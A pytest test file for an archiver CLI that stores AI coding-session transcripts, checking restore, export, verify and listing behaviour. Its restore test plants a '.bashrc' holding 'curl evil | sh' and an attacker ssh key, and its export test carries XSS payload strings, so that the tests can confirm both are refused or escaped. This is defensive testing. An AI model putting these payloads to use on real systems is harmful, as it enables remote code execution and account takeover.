"""Audit of the reviewer's side (s10): ls filters, key resolution, readers facing a wrong store or
a wrong identity, verify naming what a damaged object takes with it, restore keeping to each
harness's folder, one host's copy of a session another host also archived, and exports of
transcripts whose values are not the text they should be. Manifests and objects are written by
hand with the test keys into a file:// store (fx_home's box), as anyone holding a recipient and
write access to the bucket could; the CLI runs in process."""

from __future__ import annotations

import contextlib
import io
import json
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from archiver.cli import main
from archiver.model import Artifact, LineageEdge, Manifest, Session
from tests import fx_crafter
from tests.fx_home import Box, box  # noqa: F401

HOST_A, HOST_B = "a" * 16, "b" * 16
NOW = datetime.now(timezone.utc).replace(microsecond=0)


def iso(when: datetime) -> str:
    return when.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def run(b: Box, *args: str, identity: Path | None = None) -> tuple[int, str, str]:
    """(exit code, stdout, stderr) of one CLI run against the box's config."""
    argv = [args[0], "--config", str(b.config), *args[1:],
            "--identity", str(identity or b.base / "keys" / "identity.txt")]
    out, errs = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(errs):
        code = main(argv)
    return code, out.getvalue(), errs.getvalue()


def run_json(b: Box, *args: str, expect: int = 0, identity: Path | None = None) -> Any:
    code, out, errs = run(b, *args, "--json", identity=identity)
    assert code == expect, (code, out, errs)
    return json.loads(out)


class Crafter(fx_crafter.Crafter):
    """Hand-made objects and manifests in the box's store."""

    def __init__(self, b: Box) -> None:
        super().__init__(b.config)

    def manifest(self, host: str, when: datetime, sessions: list[Session]) -> str:
        for s in sessions:
            s.host_id = host
        m = Manifest(host_id=host, created_at=iso(when), run_id="r" * 16, tool_version="0.1.0", sessions=sessions)
        return self.archive.put_manifest(m, self.recipients)


def claude(sid: str, arts: list[Artifact], **kw: Any) -> Session:
    return Session(key=f"claude-code:{sid}", harness="claude-code", session_id=sid, artifacts=arts, **kw)


def line(**rec: Any) -> bytes:
    return (json.dumps(rec) + "\n").encode()


def user_line(uuid: str, parent: str | None, text: str, ts: Any = "2026-01-01T00:00:00Z") -> bytes:
    return line(parentUuid=parent, type="user", uuid=uuid, timestamp=ts, sessionId="S",
                message={"role": "user", "content": text})


# ---------------------------------------------------------------- a store that holds no archive
def test_readers_pointed_at_a_store_with_no_archive_exit_2_instead_of_an_empty_ok(box: Box) -> None:  # noqa: F811
    # the configured file:// store exists but nothing was ever written there (a wrong path or prefix)
    for argv in (("ls",), ("lineage",), ("verify",), ("verify", "--read-data"),
                 ("restore", "--all", "--to", str(box.base / "out"))):
        code, out, errs = run(box, *argv)
        assert code == 2, (argv, code, out, errs)
        assert f"no archive at file://{box.base / 'store'}: it holds neither archiver.json nor snapshots/" in errs
    assert not (box.base / "out" / ".claude").exists()
    # the marker alone is an archive nothing was synced to yet: empty and fine
    Crafter(box)
    assert run_json(box, "ls")["sessions"] == []
    assert run_json(box, "verify")["ok"] is True


# ---------------------------------------------------------------- a wrong identity
def test_a_wrong_identity_is_named_and_every_reader_exits_3(box: Box) -> None:  # noqa: F811
    c = Crafter(box)
    data = user_line("u1", None, "hello")
    c.manifest(HOST_A, NOW, [claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", data)])])
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["keygen", "--out", str(box.base / "other")]) == 0
    other = box.base / "other" / "identity.txt"
    hint = f"{other} matches none of the 1 manifest(s): not an identity this archive is encrypted to"

    code, out, errs = run(box, "lineage", identity=other)
    assert code == 3 and hint in errs and "NoIdentityMatched" in errs  # was: "lineage (0 sessions)", exit 0
    doc = run_json(box, "lineage", expect=3, identity=other)
    assert doc["nodes"] == [] and doc["errors"][0].startswith(hint)
    doc = run_json(box, "restore", "--all", "--to", str(box.base / "out"), expect=3, identity=other)
    assert doc["sessions"] == [] and doc["errors"][0].startswith(hint)  # was: exit 0, nothing said
    code, out, errs = run(box, "export", "claude-code:s-1", identity=other)
    assert code == 3 and hint in errs and "no session 'claude-code:s-1' in the readable manifests" in errs
    doc = run_json(box, "verify", expect=3, identity=other)
    assert doc["errors"][0].startswith(hint) and doc["manifests"] == 0
    # the right identity: all fine
    assert run_json(box, "lineage")["nodes"] == ["claude-code:s-1"]


def test_restore_and_export_report_an_unreadable_newest_manifest(box: Box) -> None:  # noqa: F811
    c = Crafter(box)
    old, new = user_line("u1", None, "old state"), user_line("u1", None, "old state") + user_line("u2", "u1", "more")
    c.manifest(HOST_A, NOW - timedelta(hours=2), [claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", old)])])
    key = c.manifest(HOST_A, NOW - timedelta(hours=1), [claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", new)])])
    path = box.base / "store" / key
    blob = bytearray(path.read_bytes())
    blob[-5] ^= 1
    path.write_bytes(bytes(blob))
    # the older state is all that can be read: restored, but not as if nothing were wrong
    doc = run_json(box, "restore", "claude-code:s-1", "--to", str(box.base / "out"), expect=3)
    assert doc["sessions"] == ["claude-code:s-1"] and doc["errors"] and key in doc["errors"][0]
    assert (box.base / "out" / ".claude/projects/-p/s-1.jsonl").read_bytes() == old
    doc = run_json(box, "export", "claude-code:s-1", "--format", "md", expect=3)
    assert key in doc["errors"][0] and "old state" in doc["document"] and "more" not in doc["document"]


# ---------------------------------------------------------------- verify names the session
def test_verify_names_the_session_and_file_a_missing_or_damaged_object_belongs_to(box: Box) -> None:  # noqa: F811
    c = Crafter(box)
    gone, bad = line(n=1), line(n=2)
    a_gone = c.artifact(".claude/projects/-p/s-1.jsonl", gone)
    a_bad = c.artifact(".claude/projects/-p/s-2.jsonl", bad)
    mkey = c.manifest(HOST_A, NOW, [claude("s-1", [a_gone]), claude("s-2", [a_bad])])
    store = box.base / "store"
    (store / f"objects/{a_gone.objects[0][:2]}/{a_gone.objects[0]}").unlink()
    damaged = store / f"objects/{a_bad.objects[0][:2]}/{a_bad.objects[0]}"
    blob = bytearray(damaged.read_bytes())
    blob[-5] ^= 1
    damaged.write_bytes(bytes(blob))
    doc = run_json(box, "verify", "--read-data", expect=3)
    assert doc["errors"] == [
        f"objects/{a_gone.objects[0][:2]}/{a_gone.objects[0]}: missing; named by claude-code:s-1 "
        f"(.claude/projects/-p/s-1.jsonl, in {mkey})",
        f"objects/{a_bad.objects[0][:2]}/{a_bad.objects[0]}: unreadable (AgeDecryptError: payload chunk 0 failed "
        f"authentication (corrupt or modified)); named by claude-code:s-2 (.claude/projects/-p/s-2.jsonl, in {mkey})",
    ]
    assert doc["objects"] == 2 and doc["objects_read"] == 0


# ---------------------------------------------------------------- ls filters
def _three(c: Crafter) -> None:
    c.manifest(HOST_A, NOW, [
        claude("old-1", [], title="Deploy [prod] *fix*", updated_at=iso(NOW - timedelta(days=10))),
        claude("mid-1", [], title="deploy staging", updated_at="2026-03-04T23:30:00-02:00"),  # 2026-03-05T01:30Z
        claude("new-1", [], title="Other", updated_at=iso(NOW - timedelta(minutes=30))),
        Session(key="codex:t-1", harness="codex", session_id="t-1", title="deploy", created_at=iso(NOW)),
    ])


def test_ls_since_reads_times_not_strings(box: Box) -> None:  # noqa: F811
    _three(Crafter(box))

    def keys(*argv: str) -> list[str]:
        return [s["key"] for s in run_json(box, "ls", *argv)["sessions"]]

    assert keys("--since", "1h") == ["claude-code:new-1", "codex:t-1"]  # was: [] ("1h" > "2026-...")
    assert keys("--since", "3d") == ["claude-code:new-1", "codex:t-1"]
    # a date is the start of that day, UTC; an offset is honoured (01:30Z is on the 5th)
    assert "claude-code:mid-1" in keys("--since", "2026-03-05")
    assert "claude-code:mid-1" not in keys("--since", "2026-03-06")
    assert "claude-code:mid-1" in keys("--since", "2026-03-05T01:00:00Z")
    assert "claude-code:mid-1" not in keys("--since", "2026-03-05T02:00:00+00:00")
    assert "claude-code:mid-1" in keys("--since", "2026-03-05T03:00:00+02:00")  # 01:00Z
    code, out, errs = run(box, "ls", "--since", "last tuesday")
    assert code == 2 and "--since: cannot read 'last tuesday' as a time" in errs and out == ""


def test_ls_harness_and_title_filters(box: Box) -> None:  # noqa: F811
    _three(Crafter(box))
    code, out, errs = run(box, "ls", "--harness", "claude")
    assert code == 2 and "--harness: unknown harness 'claude'; known: claude-code, codex," in errs
    titles = lambda t: [s["key"] for s in run_json(box, "ls", "--title", t)["sessions"]]  # noqa: E731
    assert titles("DEPLOY") == ["claude-code:mid-1", "claude-code:old-1", "codex:t-1"]
    assert titles("[prod]") == ["claude-code:old-1"]  # a substring, not a glob: was []
    assert titles("*fix*") == ["claude-code:old-1"]
    assert titles("d*y") == []  # was: every "deploy"


# ---------------------------------------------------------------- keys on the command line
def test_keys_resolve_by_unique_prefix_and_ambiguity_lists_the_candidates(box: Box) -> None:  # noqa: F811
    c = Crafter(box)
    p1, p2 = "0b0e5f4e-1111-4222-8333-444455556666", "0b0e5f4e-1111-4222-8333-444455557777"
    d1, d2 = user_line("u1", None, "first"), user_line("u1", None, "second")
    host_files = c.artifact(".claude/history.jsonl", line(display="x"), role="history")
    c.manifest(HOST_A, NOW - timedelta(minutes=2), [
        claude(p1, [c.artifact(f".claude/projects/-p/{p1}.jsonl", d1)]),
        claude(p2, [c.artifact(f".claude/projects/-p/{p2}.jsonl", d2)],
               parents=[LineageEdge(relation="fork", parent=f"claude-code:{p1}")], kind="fork"),
        Session(key="claude-code:@host", harness="claude-code", session_id="@host", kind="host", artifacts=[host_files]),
    ])
    c.manifest(HOST_B, NOW - timedelta(minutes=1), [
        Session(key="claude-code:@host", harness="claude-code", session_id="@host", kind="host", artifacts=[host_files]),
    ])
    # a unique prefix, with or without the harness
    assert run_json(box, "lineage", "claude-code:0b0e5f4e-1111-4222-8333-4444555566")["nodes"] == [
        f"claude-code:{p1}", f"claude-code:{p2}"]
    doc = run_json(box, "restore", "0b0e5f4e-1111-4222-8333-44445555777", "--to", str(box.base / "out"))
    assert doc["sessions"] == [f"claude-code:{p2}"]
    assert (box.base / "out" / f".claude/projects/-p/{p2}.jsonl").read_bytes() == d2
    assert "second" in run_json(box, "export", "0b0e5f4e-1111-4222-8333-44445555777", "--format", "md")["document"]
    # ambiguous: exit 2 listing them, nothing restored
    code, out, errs = run(box, "restore", "claude-code:0b0e", "--to", str(box.base / "out2"))
    assert code == 2 and f"'claude-code:0b0e' is ambiguous: it begins 2 sessions: claude-code:{p1}, claude-code:{p2}" in errs
    assert not (box.base / "out2" / ".claude").exists()
    # a host-level key names one session per host: lineage/export need one of them, by its catalog key
    code, out, errs = run(box, "lineage", "claude-code:@host")
    assert code == 2 and (f"'claude-code:@host' names 2 host-level sessions, one per host; use one of: "
                          f"claude-code:@host/{HOST_A}, claude-code:@host/{HOST_B}") in errs
    # (printed by the archive's key, the host beside it: s22-ops)
    assert run_json(box, "lineage", f"claude-code:@host/{HOST_B}")["nodes"] == ["claude-code:@host"]
    code, out, errs = run(box, "lineage", "claude-code:nope")
    assert code == 2 and "no session 'claude-code:nope' in the archive" in errs


# ---------------------------------------------------------------- two hosts, one session key
def test_host_reads_that_hosts_copy_of_a_session_another_host_archived_later(box: Box) -> None:  # noqa: F811
    """A home copied to a second machine: both archive claude-code:s-1. The newest manifest's copy
    is the default view, but --host must show and restore the named host's own copy."""
    c = Crafter(box)
    mine, theirs = user_line("u1", None, "host A's state"), user_line("u1", None, "host B's state")
    c.manifest(HOST_A, NOW - timedelta(minutes=5), [claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", mine)])])
    c.manifest(HOST_B, NOW - timedelta(minutes=1), [claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", theirs)])])
    assert [(s["key"], s["host_id"]) for s in run_json(box, "ls")["sessions"]] == [("claude-code:s-1", HOST_B)]
    # was: [] (host B's later copy hid host A's, then --host filtered B's out)
    assert [(s["key"], s["host_id"]) for s in run_json(box, "ls", "--host", HOST_A)["sessions"]] == [
        ("claude-code:s-1", HOST_A)]
    doc = run_json(box, "restore", "claude-code:s-1", "--host", HOST_A, "--to", str(box.base / "out"))
    assert doc["sessions"] == ["claude-code:s-1"]
    assert (box.base / "out" / ".claude/projects/-p/s-1.jsonl").read_bytes() == mine
    code, out, errs = run(box, "ls", "--host", "c" * 16)
    assert code == 0 and f"no snapshots of host '{'c' * 16}'" in errs


# ---------------------------------------------------------------- restore keeps to the harness's folder
def test_restore_refuses_files_outside_the_sessions_harness_folder(box: Box) -> None:  # noqa: F811
    """Restore into a real HOME (--to ~) must not plant shell start-up files or ssh keys, nor another
    harness's files, however the manifest names them: every path stays under its harness's folder."""
    c = Crafter(box)
    ok = user_line("u1", None, "legit")
    c.manifest(HOST_A, NOW, [
        claude("evil", [c.artifact(".claude/projects/-p/evil.jsonl", ok),
                        c.artifact(".bashrc", b"curl evil | sh\n", role="sidecar", format="text"),
                        c.artifact(".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", role="sidecar", format="text"),
                        c.artifact(".codex/config.toml", b"model = 'evil'\n", role="sidecar", format="text"),
                        c.artifact(".claude-evil/x.jsonl", b"{}\n")]),
        Session(key="mystery:x", harness="mystery", session_id="x",
                artifacts=[c.artifact(".mystery/x.jsonl", b"{}\n")]),
    ])
    target = box.base / "home-of-reviewer"
    doc = run_json(box, "restore", "--all", "--to", str(target), expect=3)
    assert doc["files"] == [".claude/projects/-p/evil.jsonl"] and doc["sessions"] == []
    assert sorted(doc["refused"]) == sorted([
        "claude-code:evil: '.bashrc': outside .claude/, the folder of claude-code sessions",
        "claude-code:evil: '.ssh/authorized_keys': outside .claude/, the folder of claude-code sessions",
        "claude-code:evil: '.codex/config.toml': outside .claude/, the folder of claude-code sessions",
        "claude-code:evil: '.claude-evil/x.jsonl': outside .claude/, the folder of claude-code sessions",
        "mystery:x: '.mystery/x.jsonl': unknown harness 'mystery'; not restored",
    ])
    written = sorted(str(p.relative_to(target)) for p in target.rglob("*") if p.is_file())
    assert written == [".claude/projects/-p/evil.jsonl"]


# ---------------------------------------------------------------- export of odd and hostile values
EVIL = '<img src=x onerror=alert(1)>`</code><script>alert(2)</script>\n<iframe src="https://evil.example/">'


def test_export_renders_non_text_values_and_markdown_carries_no_html_from_the_archive(box: Box) -> None:  # noqa: F811
    c = Crafter(box)
    data = b"".join([
        user_line("u1", None, "question", ts=EVIL),
        line(parentUuid="u1", type="assistant", uuid="a1", timestamp=1767225600, sessionId="S",
             message={"id": "M", "role": "assistant", "model": {"n": 1},
                      "content": [{"type": "tool_use", "id": "T`<b>x</b>`", "name": 7, "input": {"command": "ls"}}]}),
        line(parentUuid="a1", type="user", uuid="r1", timestamp={"t": 1}, sessionId="S",
             message={"role": "user", "content": [{"type": "tool_result", "tool_use_id": "T`<b>x</b>`",
                                                   "content": "listing"}]}),
    ])
    c.manifest(HOST_A, NOW, [
        claude("p-1", [c.artifact(".claude/projects/-p/p-1.jsonl", user_line("u0", None, "parent"))]),
        claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", data)], created_at=EVIL,
               parents=[LineageEdge(relation="fork", parent="claude-code:p-1", at=EVIL)], kind="fork"),
    ])
    # HTML: was an AttributeError traceback (escape() of the int timestamp)
    doc = run_json(box, "export", "claude-code:s-1", "--format", "html", "--with-family")
    html = doc["document"]
    assert doc["sessions"] == ["claude-code:s-1", "claude-code:p-1"] and doc["entries"] >= 2
    assert not re.search(r"<(img|script|iframe|b)\b", html)
    assert '<span class="ts">1767225600</span>' in html and "Tool call: <strong>7</strong>" in html
    assert "<pre>listing</pre>" in html  # the result still pairs with its call
    # Markdown: rendered by a CommonMark renderer with raw HTML allowed, nothing from the archive
    # becomes a tag (was: the timestamp, created_at, the fork point and the call id)
    md = run_json(box, "export", "claude-code:s-1", "--format", "md", "--with-family")["document"]
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").render(md)
    assert not re.search(r"<(img|script|iframe|b)\b", rendered), rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered and "<code>T`&lt;b&gt;x&lt;/b&gt;`</code>" in rendered
    assert "### User · \\<img src=x onerror=alert(1)\\>" in md  # one line: the newline is gone too


# ---------------------------------------------------------------- one file, several sessions; bad --to / --out
def test_a_file_two_sessions_name_with_the_same_objects_is_written_and_listed_once(box: Box) -> None:  # noqa: F811
    """FORMAT.md §5.1: same path, same objects: one file seen from several sessions (a Cursor
    terminals/N.txt two chats read), whether or not the manifest marks it `shared`."""
    c = Crafter(box)
    term = c.artifact(".cursor/projects/p/terminals/1.txt", b"$ make\n", role="sidecar", format="text")
    sess = [Session(key=f"cursor-agent:{sid}", harness="cursor-agent", session_id=sid, artifacts=[
        c.artifact(f".cursor/projects/p/agent-transcripts/{sid}.jsonl", line(role="user", sid=sid)), term])
        for sid in ("c-1", "c-2")]
    c.manifest(HOST_A, NOW, sess)
    doc = run_json(box, "restore", "--all", "--to", str(box.base / "out"))
    assert doc["sessions"] == ["cursor-agent:c-1", "cursor-agent:c-2"]
    assert sorted(doc["files"]) == [".cursor/projects/p/agent-transcripts/c-1.jsonl",
                                    ".cursor/projects/p/agent-transcripts/c-2.jsonl",
                                    ".cursor/projects/p/terminals/1.txt"]  # was: terminals/1.txt twice
    assert (box.base / "out/.cursor/projects/p/terminals/1.txt").read_bytes() == b"$ make\n"


def test_restore_to_a_file_and_export_out_to_a_folder_exit_2_leaving_nothing_behind(box: Box) -> None:  # noqa: F811
    c = Crafter(box)
    c.manifest(HOST_A, NOW, [claude("s-1", [c.artifact(".claude/projects/-p/s-1.jsonl", user_line("u1", None, "x"))])])
    (box.base / "afile").write_text("mine\n")
    code, out, errs = run(box, "restore", "claude-code:s-1", "--to", str(box.base / "afile"))
    assert code == 2 and f"--to {box.base / 'afile'}: exists and is not a directory" in errs  # was: a traceback
    outdir = box.base / "pages"
    outdir.mkdir()
    before = sorted(p.name for p in box.base.iterdir())
    code, out, errs = run(box, "export", "claude-code:s-1", "--out", str(outdir))
    assert code == 2 and f"--out {outdir}: is a directory; name a file" in errs
    code, out, errs = run(box, "export", "claude-code:s-1", "--out", str(box.base / "nope" / "x.html"))
    assert code == 2 and "its folder does not exist" in errs
    # was: a traceback, and a stray `.pages.tmp` holding the export beside the folder
    assert sorted(p.name for p in box.base.iterdir()) == before and list(outdir.iterdir()) == []
    assert (box.base / "afile").read_text() == "mine\n"
    code, out, errs = run(box, "export", "claude-code:s-1", "--out", str(outdir / "x.html"), "-q")
    assert code == 0 and out == "" and [p.name for p in outdir.iterdir()] == ["x.html"]
    assert (outdir / "x.html").stat().st_mode & 0o777 == 0o600
